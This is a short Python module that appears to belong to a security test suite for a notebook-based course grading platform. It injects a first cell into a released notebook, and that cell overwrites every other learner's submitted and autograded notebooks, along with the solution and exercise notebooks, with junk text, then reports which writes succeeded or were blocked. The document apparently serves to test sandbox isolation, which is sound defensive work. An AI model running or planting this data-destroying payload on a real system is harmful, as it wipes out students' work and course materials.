"""Overwrites every other learner's submitted and autograded notebook, and the source notebook, with garbage."""
from attacks.course import with_first_cell

ENDS = "completed"


def build(release, ctx):
    return with_first_cell(release, f'''
import pathlib
root = pathlib.Path({str(ctx.root)!r})
for pattern in ("grading/submitted/*/*/*.ipynb", "grading/autograded/*/*/*.ipynb", "solutions/*/*.ipynb", "exercises/*/*.ipynb"):
    try:
        for path in root.glob(pattern):
            path.write_text("garbage")
            print("rewrote", path)
    except OSError as e:
        print("blocked", type(e).__name__)
print("can see", list(root.glob("*")) if root.exists() else "nothing")
''')
